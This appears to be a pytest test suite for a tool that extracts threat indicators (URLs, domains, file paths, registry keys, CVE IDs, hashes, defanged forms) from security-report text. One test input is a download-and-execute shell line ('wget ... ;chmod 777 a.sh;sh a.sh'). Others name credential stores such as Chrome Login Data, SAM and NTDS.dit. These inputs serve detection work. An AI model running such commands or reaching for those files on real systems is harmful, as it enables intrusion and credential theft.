"""What of a text is an indicator, of which kind, and where it ends: shapes seen in real text, with made-up names."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spacy_ssner.text.indicators import find_indicators
from spacy_ssner.text.tokenizer import blank_english


def found(text):
    return [f"{hit.kind} {hit.value}" for hit in find_indicators(text)]


@pytest.mark.parametrize(
    "text,expected",
    [
        ("control PR.AC-2 and DE.CM-4", []),
        ("NXP i.MX 6 boards", []),
        ("trusts request.host, req.headers.host and server.host", []),
        ("scoped by user.id, session.id or author.name", []),
        ("calls file.download() of object.property", []),
        ("a dot (.) and the slash", []),
        ("a period (.) or a space", []),
        ("from phish.host and login.example.id", ["DOMAIN phish.host", "DOMAIN login.example.id"]),
        ("evil (.) com was down", ["DOMAIN evil.com"]),
        ("user.id[.]com and server[.]host", ["DOMAIN user.id.com", "DOMAIN server.host"]),
    ],
)
def test_what_is_no_domain(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("opens Terminal.app and Mail.app", ["FILE Terminal.app", "FILE Mail.app"]),
        ("on evil.app and mail.app", ["DOMAIN evil.app", "DOMAIN mail.app"]),
        ("in XRef.cc and Stream.cc", ["FILE XRef.cc", "FILE Stream.cc"]),
        ("sold on cardshop.cc", ["DOMAIN cardshop.cc"]),
        ("the login.do page, /users/save.do?id=1", ["FILE login.do", "PATH /users/save.do?id=1"]),
        ("patched lib/Logs.pm and Logs.pm", ["PATH lib/Logs.pm", "FILE Logs.pm"]),
        ("published on hex.pm at 5.pm", ["DOMAIN hex.pm"]),
        ("at www.gob.com.do and evil[.]do", ["DOMAIN www.gob.com.do", "DOMAIN evil.do"]),
    ],
)
def test_files_with_endings_of_hosts(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("evil[.]com:80/a/b.jpg", ["URL evil.com:80/a/b.jpg"]),
        ("203.0.113[.]7:8080/load[.]php", ["URL 203.0.113.7:8080/load.php"]),
        (
            "evil.com:80/x/mxr.pdf next.evil.net:81/cfg.ini",
            ["URL evil.com:80/x/mxr.pdf", "URL next.evil.net:81/cfg.ini"],
        ),
        ("(2) 4/js/code.php", ["PATH 4/js/code.php"]),
    ],
)
def test_a_port_begins_no_path(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("edits .github/workflows/build.yml now", ["PATH .github/workflows/build.yml"]),
        ("in .acme/settings.json.", ["PATH .acme/settings.json"]),
        ("of endings .exe/.so/.dll and .../x.py", ["FILE x.py"]),
    ],
)
def test_paths_in_hidden_folders(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("GET /x/a.php HTTP/1.1\\r\\nHost: evil.com\\r\\n", ["PATH /x/a.php", "DOMAIN evil.com"]),
        ('a redirect("233\\r\\nSet-Cookie")', []),
        (
            "'SECURITY\\Policy\\Secrets\\n' and report.txt\\n",
            ["PATH SECURITY\\Policy\\Secrets", "FILE report.txt"],
        ),
        ("of System\\CentralProcessor\\0", ["PATH System\\CentralProcessor\\0"]),
        ("at the end.\\n\\n\\nThis", []),
        ("in new\\notes\\readme.txt and temp\\r.exe", ["PATH new\\notes\\readme.txt", "PATH temp\\r.exe"]),
    ],
)
def test_escaped_ends_of_lines_are_no_paths(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("(CVE 2017-0037), CVE: 2024-9122 and CVE:2014-0515", "CVE-2017-0037 CVE-2024-9122 CVE-2014-0515"),
        ("CVE2016-0189, cve2016\u20110190", "CVE-2016-0189 CVE-2016-0190"),
        ("VulnerabilityCVE-2016-1019: in CVE-2013-2465Java", "CVE-2016-1019 CVE-2013-2465"),
        ("the CVE 2017 list, CVE-ID 2017-0037, ACVE-2016-1019, CVE-2016-1019b, CVE-2016-1019AB", ""),
        ("evil[.]com (CVE 2017-0037)", "evil.com CVE-2017-0037"),
    ],
)
def test_spellings_of_cve_ids(text, expected):
    hits = find_indicators(text)
    assert " ".join(hit.value for hit in hits) == expected
    assert all(text[hit.start : hit.end].strip() == text[hit.start : hit.end] for hit in hits)


def test_a_cve_id_with_a_blank_is_one_token():
    tokens = [token.text for token in blank_english()("Uses (CVE 2017-0037) and BugCVE-2016-1019Java.")]
    assert tokens == ["Uses", "(", "CVE 2017-0037", ")", "and", "Bug", "CVE-2016-1019", "Java", "."]


@pytest.mark.parametrize(
    "path",
    [
        r"REGISTRY HKLM\SYSTEM\CurrentControlSet\Control\Session Manager",
        r"REGISTRY HKLM\SYSTEM\CurrentControlSet\Control\Lsa\Security Packages",
        r"REGISTRY HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server",
        r"PATH %LocalAppData%\Google\Chrome\User Data",
        r"PATH %LocalAppData%\Google\Chrome\User Data\Default\Login Data",
    ],
)
def test_last_folders_with_blanks(path):
    assert found(f"values in {path.partition(' ')[2]} are set") == [path]


def test_the_full_stop_behind_a_user_agent_is_none_of_it():
    text = "It sends Mozilla/5.0 (X11; rv:48.0) Gecko/20100101 Firefox/48.0. Then User-Agent: Rift/2.0."
    assert found(text) == [
        "USER_AGENT Mozilla/5.0 (X11; rv:48.0) Gecko/20100101 Firefox/48.0",
        "USER_AGENT Rift/2.0",
    ]


@pytest.mark.parametrize(
    "text,expected",
    [
        ("my[-]site.com:80/x.pdf and ea[-]no7[.]net", ["URL my-site.com:80/x.pdf", "DOMAIN ea-no7.net"]),
        ("| 203.0.113[.75 | 203.0.113[.137|", ["IPV4 203.0.113.75", "IPV4 203.0.113.137"]),
        ("[a-z][-][a-z0-9].txt, e[-]mail, x[.5, 0.7] and 3[.5]", []),
    ],
)
def test_more_brackets_of_defanging(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("email abc%40evil.com' AND", ["DOMAIN evil.com"]),
        ("the input %00settings.htm", ["FILE settings.htm"]),
        ("ends with %00.gif or %3F.php", []),
        ("?CP=%2fweb.config and %DEV%x.dll", ["FILE web.config", "FILE %DEV%x.dll"]),
        ("my%20file.exe", ["FILE my%20file.exe"]),
    ],
)
def test_escaped_signs_before_names(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        (r"in AppData\Chrome\User Data\A\Login Data and", [r"PATH AppData\Chrome\User Data\A\Login Data"]),
        (r"\Software\CurrentVersion\App Paths\x.exe", [r"PATH \Software\CurrentVersion\App Paths\x.exe"]),
        (r"CORP\user Data", []),
        ("in ~/Library/Application Support/com.x/a.plist today", ["PATH ~/Library/Application Support/com.x/a.plist"]),
        (r"cd /Library/Application\ Support/x", [r"PATH /Library/Application\ Support/x"]),
        ("the /Library/Application Support team", ["PATH /Library/Application"]),
        ("at %temp%/upload and %SystemRoot%/config/SAM", ["PATH %temp%/upload", "PATH %SystemRoot%/config/SAM"]),
        ("50%/60% of both", []),
    ],
)  # fmt: skip
def test_blanks_and_variables_in_paths(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        (r'xor_key="z\x00v\x00j\x00z\x00p\x00"', []),
        (r"named March 25 \u202Excod.scr", ["FILE u202Excod.scr"]),
        (r"WinSxS\x86_microsoft-windows\a.dll", [r"PATH WinSxS\x86_microsoft-windows\a.dll"]),
        (r"\drivers\x64\evil.sys", [r"PATH \drivers\x64\evil.sys"]),
        (r"\updated\evil.sys", [r"PATH \updated\evil.sys"]),
        (r"\xdata\evil.sys", [r"PATH \xdata\evil.sys"]),
    ],
)
def test_escapes_of_code_are_no_paths(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        (r"HKLM\A\B Software\Microsoft\C", [r"REGISTRY HKLM\A\B", r"REGISTRY Software\Microsoft\C"]),
        (r"Computer\HKEY_CURRENT_USER\Keyboard Layout\A", [r"REGISTRY HKEY_CURRENT_USER\Keyboard Layout\A"]),
        (r"MyComputer\HKEY", []),
        (r"contains: '\Software\Microsoft\Run'", [r"REGISTRY \Software\Microsoft\Run"]),
        (r"at *\\System\\CurrentControlSet\\Lsa", [r"REGISTRY \\System\\CurrentControlSet\\Lsa"]),
        (r"\SOFTWARE\Microsoft\Terminal Server Client\X", [r"REGISTRY \SOFTWARE\Microsoft\Terminal Server Client\X"]),
        (r"set \REGISTRY\MACHINE\SOFTWARE\Acme\Run", [r"REGISTRY \REGISTRY\MACHINE\SOFTWARE\Acme\Run"]),
        (r"REGISTRY\USER\S-1-5-18\Acme", [r"REGISTRY REGISTRY\USER\S-1-5-18\Acme"]),
        (r"\Software\Acme\a", [r"PATH \Software\Acme\a"]),
        (r"C:\x\Software\Microsoft\a", [r"PATH C:\x\Software\Microsoft\a"]),
        (r"C:\Operating System\a.exe", [r"PATH C:\Operating System\a.exe"]),
    ],
)  # fmt: skip
def test_where_registry_keys_begin(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Edit .bashrc, .htaccess or (.netrc)", ["FILE .bashrc", "FILE .htaccess", "FILE .netrc"]),
        ("a copy of NTDS.dit and sam.hiv", ["FILE NTDS.dit", "FILE sam.hiv"]),
        ("runs gpedit.msc, ie11.PNF and app.asar", ["FILE gpedit.msc", "FILE ie11.PNF", "FILE app.asar"]),
        ("all .exe and .config files", []),
        ("More.com and mode.com", ["FILE More.com", "FILE mode.com"]),
        ("tree[.]com or evil.com", ["DOMAIN tree.com", "DOMAIN evil.com"]),
    ],
)  # fmt: skip
def test_dot_files_and_programs_of_dos(text, expected):
    assert found(text) == expected


MD5 = "d41d8cd98f00b204e9800998ecf8427e"


@pytest.mark.parametrize(
    "text,expected",
    [
        ("wget http://192.0.2.7/a.sh;chmod 777 a.sh;sh a.sh", ["URL http://192.0.2.7/a.sh", "FILE a.sh", "FILE a.sh"]),
        ("for x in http://a.com/v1/y;done", ["URL http://a.com/v1/y"]),
        (f"https://evil[.]com/a.php,192.0.2.7,{MD5}", ["URL https://evil.com/a.php", "IPV4 192.0.2.7", f"MD5 {MD5}"]),
        ("http://a.com/x;jsessionid=5?y=1;2,3", ["URL http://a.com/x;jsessionid=5?y=1;2,3"]),
        ("http://a.com/x;sh=1", ["URL http://a.com/x;sh=1"]),
        ("http://a.com/image;base64,AAAA", ["URL http://a.com/image;base64,AAAA"]),
    ],
)  # fmt: skip
def test_where_urls_end(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("http://evil.org,C2,high", ["URL http://evil.org"]),
        ("http://evil.com:8080,Emotet", ["URL http://evil.com:8080"]),
        ("hxxp://evil[.]com/a.exe,malware_download,2021-03-04", ["URL http://evil.com/a.exe"]),
        ("http://evil.com/c?a.js,b.js", ["URL http://evil.com/c?a.js,b.js"]),
        ("LDAP://CN=Box,DC=evil,DC=com", ["URL LDAP://CN=Box,DC=evil,DC=com"]),
        (
            r"HKLM\Software\Evil<br>203.0.113.9<br>evil[.]com",
            [r"REGISTRY HKLM\Software\Evil", "IPV4 203.0.113.9", "DOMAIN evil.com"],
        ),
        (r"C:\x\a.exe<br>C:\x\b.dll", [r"PATH C:\x\a.exe", r"PATH C:\x\b.dll"]),
        (r"C:\Users\<user name>\a.exe", [r"PATH C:\Users\<user name>\a.exe"]),
    ],
)
def test_columns_and_lines_of_tables(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("hxxp://evil[.]com/a.exe(MD5: see below)", ["URL http://evil.com/a.exe"]),
        ("hxxp://evil[.]com(port 8080)", ["URL http://evil.com"]),
        ("http://evil.com/A_(b) was", ["URL http://evil.com/A_(b)"]),
        (r"C:\a\b.exe(SHA1: see below)", [r"PATH C:\a\b.exe"]),
        (r"C:\Program Files (x86)\a\b.exe(x", [r"PATH C:\Program Files (x86)\a\b.exe"]),
    ],
)
def test_a_bracket_that_is_not_closed_begins_something_else(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("microsoft-office[.]zip and evil[.]mov", ["DOMAIN microsoft-office.zip", "DOMAIN evil.mov"]),
        ("evil[.]zip/a", ["URL evil.zip/a"]),
        (
            "data.zip, a.b.zip, movie.mov, a.b.mov",
            ["FILE data.zip", "FILE a.b.zip", "FILE movie.mov", "FILE a.b.mov"],
        ),
    ],
)
def test_archives_and_films_are_files_unless_defanged(text, expected):
    assert found(text) == expected


def test_a_quoted_path_ends_before_the_next_sentence():
    text = "\u201cC:\\Windows\\qvr\\ip.txt. It also adds subnets. IP subnets in \u201cip.txt\u201d"
    assert found(text) == [r"PATH C:\Windows\qvr\ip.txt", "FILE ip.txt"]


@pytest.mark.parametrize(
    "text,expected",
    [
        ("run C:/Windows/x/cmd.exe.", ["PATH C:/Windows/x/cmd.exe"]),
        ("under HKLM/Software/Acme/Run", ["REGISTRY HKLM/Software/Acme/Run"]),
        ("at http://evil.com/C:/a.exe", ["URL http://evil.com/C:/a.exe"]),
        ("drives C:/ and D:/", []),
        ("keys HKLM/HKCU are set", []),
        (r"runs C:/Windows\System32\cmd.exe", [r"PATH C:/Windows\System32\cmd.exe"]),
        ("sed s:/usr/bin:/opt/x:g", ["PATH /usr/bin", "PATH /opt/x"]),
        (r'{"u":"http:\/\/evil.com\/a\/b","x":1}', ["URL http://evil.com/a/b"]),
        (r'"https:\/\/evil[.]com\/x","C:\\a\\b.exe"', ["URL https://evil.com/x", r"PATH C:\\a\\b.exe"]),
        (r"http:\/\/ and x:\/\/\/\/", []),
        ("h[tt]p://evil.com/a, h[xx]ps[:]//evil[.]com", ["URL http://evil.com/a", "URL https://evil.com"]),
        ("an array h[tt] and p[xx]", []),
    ],
)
def test_slashes_for_backslashes_escaped_slashes_and_schemes_in_brackets(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("Copies %TEMP%/x.exe there", ["PATH %TEMP%/x.exe"]),
        ("from 1.2.3.4 AT foo.exe today", ["IPV4 1.2.3.4", "FILE foo.exe"]),
        ("from ::1 [.] foo.exe today", ["IPV6 ::1", "FILE foo.exe"]),
        ("ran @WanaDecryptor@.exe", ["FILE @WanaDecryptor@.exe"]),
    ],
)
def test_names_begin_with_no_sign_of_another_place(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("case printwin.dll!gzwrite64 (broken)", ["FILE printwin.dll"]),
        ("The libxul.so!gfxContext::Polygon function", ["FILE libxul.so"]),
        ("Stop evil.exe!", ["FILE evil.exe"]),
        ("ran a!b.exe", ["FILE a!b.exe"]),
        ("Win32/Zbot.CC!MTB and Emotet.SO!MTB", []),
    ],
)
def test_a_function_is_no_part_of_its_file(text, expected):
    assert found(text) == expected


@pytest.mark.parametrize(
    "text,expected",
    [
        ("via Evil.app/Contents/MacOS/Evil, then", ["PATH Evil.app/Contents/MacOS/Evil"]),
        ("Monitor.app/Contents/Resources/pmTool", ["PATH Monitor.app/Contents/Resources/pmTool"]),
        ("at evil.app/index", ["URL evil.app/index"]),
        ("at https://evil.app/Contents/a", ["URL https://evil.app/Contents/a"]),
    ],
)
def test_programs_of_macos_are_no_hosts(text, expected):
    assert found(text) == expected


BITS = """%TEMP% / \\ $HOME ~ . .. : :// @ , [.] (dot) {at} AT DOT hxxp evil com foo.exe x.dll 1.2.3.4 ::1 fe80 80
C HKLM Software CVE-2020-1 T1059 a-b - _ ( ) " ' usr bin d41d8cd98f00b204e9800998ecf8427e ? & =
%20 \ufffc \u200b""".split()


@given(st.lists(st.sampled_from([*BITS, " ", " ", "\n"]), max_size=14).map("".join))
@settings(max_examples=400)
def test_no_indicator_overlaps_another_or_begins_with_white_space(text):
    hits = find_indicators(text)
    assert all(a.end <= b.start for a, b in zip(hits, hits[1:]))
    for hit in hits:
        surface = text[hit.start : hit.end]
        assert surface and surface == surface.strip()
    doc = blank_english()(text)
    assert doc.text == text
